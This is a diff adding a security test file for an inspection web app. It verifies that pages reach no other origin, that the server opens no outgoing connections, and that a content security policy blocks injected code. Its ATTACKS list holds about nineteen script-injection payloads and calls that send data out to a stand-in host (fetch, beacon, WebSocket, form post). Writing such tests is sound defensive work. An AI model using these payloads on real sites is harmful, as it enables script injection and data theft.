@@ -1,0 +1,116 @@
+import { connect } from 'node:net'
+import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'
+import * as walk from '../journey/walk.ts'
+import { fileOf, foundPlant, GOOD, PERSON, type Plant, SCRATCHED, untilProven } from './plant.ts'
+import { serverOf, socketsOf } from './socket.ts'
+
+/** Nothing leaves: no page asks another origin, the server opens no connection, and what is injected does not run. */
+
+vi.setConfig({ testTimeout: 120_000 })
+
+let plant: Plant
+let watching: NodeJS.Timeout | undefined
+const sockets = new Set<string>()
+let looks = 0
+
+async function look(): Promise<void> {
+  for (const { table, localPort } of await socketsOf(await serverOf(plant.data)).catch(() => []))
+    sockets.add(`${table} ${localPort}`)
+  looks++
+}
+
+beforeAll(async () => {
+  plant = await foundPlant()
+  watching = setInterval(() => void look(), 100)
+})
+afterAll(async () => {
+  clearInterval(watching)
+  await plant?.close()
+})
+
+describe('the whole way of an inspection', () => {
+  it('asks nobody but its own origin', async () => {
+    const { page, strangers } = plant.tablet
+    await walk.openStation(page)
+    expect(await walk.photograph(page, 'S-1')).toBe('PASS')
+    await walk.accept(page)
+    await walk.next(page)
+    await walk.chooseFile(page, 'S-2', await fileOf(SCRATCHED, 'scratch'))
+    await walk.verdict(page)
+    await walk.overrule(page, 'Glare or reflection')
+    await untilProven(plant)
+    await page.goto(`${plant.server.origin}/`)
+    await walk.signIn(page, PERSON)
+    await page.getByText('Check this tablet').click()
+    await page.getByRole('heading', { level: 1 }).waitFor()
+    await page.goBack()
+    await page.getByText('Review', { exact: true }).click()
+    await page.getByText('S-2').first().click()
+    await page.getByText(/this browser checked/i).waitFor({ timeout: 60_000 })
+    expect(strangers).toEqual([])
+    expect(plant.tablet.complaints).toEqual([])
+  })
+
+  it('and its server has no socket but the one it listens on, and those it accepted there', async () => {
+    await look()
+    expect(looks).toBeGreaterThan(20)
+    expect([...sockets]).toEqual([`tcp ${plant.port}`])
+  })
+
+  it('which is watched by a watch that sees an outgoing connection', async () => {
+    const socket = connect(plant.port, '127.0.0.1')
+    await new Promise((resolve) => socket.once('connect', resolve))
+    const seen = await socketsOf(process.pid)
+    socket.destroy()
+    expect(seen).toContainEqual(expect.objectContaining({ table: 'tcp', remotePort: plant.port }))
+  })
+})
+
+describe('what is injected into a page', () => {
+  // A timer is the page's own task: what the inspector itself evaluates may pass the policy.
+  const ATTACKS: Record<string, string> = {
+    'an inline script': `const s = document.createElement('script'); s.textContent = 'ran()'; document.head.append(s)`,
+    'a script by another name': `const s = document.createElement('script'); s.src = 'data:text/javascript,ran()'; document.head.append(s)`,
+    'a script of another origin': `const s = document.createElement('script'); s.src = 'http://example.invalid/x.js'; s.onload = ran; document.head.append(s)`,
+    'an image whose error runs': `document.body.innerHTML += '<img src=x onerror=ran()>'`,
+    'a handler in an attribute': `const b = document.createElement('b'); b.setAttribute('onclick', 'ran()'); document.body.append(b); b.click()`,
+    'a document that is written': `document.write('<script>ran()<\\/script>')`,
+    'a frame with a script': `const f = document.createElement('iframe'); f.srcdoc = '<script>parent.ran()<\\/script>'; document.body.append(f)`,
+    'a javascript address': `const a = document.createElement('a'); a.href = 'javascript:ran()'; document.body.append(a); a.click()`,
+    eval: `(0, eval)('ran()')`,
+    'a function from text': `new Function('ran()')()`,
+    'a timer with text': `setTimeout('ran()', 0)`,
+    'an import of data': `import('data:text/javascript,ran()').catch(() => {})`,
+    'a worker from a blob': `const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = ran`,
+    'a fetch to another origin': `fetch('http://example.invalid/', { mode: 'no-cors' }).then(ran, () => {})`,
+    'a beacon to another origin': `new WebSocket('ws://example.invalid/').onopen = ran; navigator.sendBeacon('http://example.invalid/', 'x')`,
+    'an image of another origin': `const i = new Image(); i.onload = ran; i.src = 'http://example.invalid/x.png'; document.body.append(i)`,
+    'a form to another origin': `const f = document.createElement('form'); f.action = 'http://example.invalid/'; f.method = 'post'; document.body.append(f); f.submit()`,
+    'another base address': `const b = document.createElement('base'); b.href = 'http://example.invalid/'; document.head.append(b); fetch('x').then((r) => r.url.includes('example') && ran())`,
+    'a style of another origin': `const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'http://example.invalid/x.css'; l.onload = ran; document.head.append(l)`,
+  }
+
+  it.each(Object.entries(ATTACKS))('%s does not run, and reaches nobody', async (_name, code) => {
+    const { page, strangers } = plant.tablet
+    const before = strangers.length
+    await page.goto(`${plant.server.origin}/`)
+    await page.getByRole('button', { name: new RegExp(PERSON) }).waitFor()
+    await page.evaluate(() => {
+      Object.assign(globalThis, { hits: 0, refusals: [] as string[] })
+      Object.assign(globalThis, { ran: () => Object.assign(globalThis, { hits: 1 }) })
+      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
+        (globalThis as unknown as { refusals: string[] }).refusals.push(effectiveDirective),
+      )
+    })
+    await page.evaluate(`setTimeout(() => { ${code} }, 0)`)
+    await page.waitForTimeout(400)
+    const { hits, refusals } = await page.evaluate(() => {
+      const { hits, refusals } = globalThis as unknown as { hits: number; refusals: string[] }
+      return { hits, refusals }
+    })
+    expect(hits).toBe(0)
+    expect(refusals.length).toBeGreaterThan(0)
+    // A request that the policy stops may be announced; none of them may have been answered or sent.
+    expect(strangers.slice(before)).toEqual([])
+  })
+})
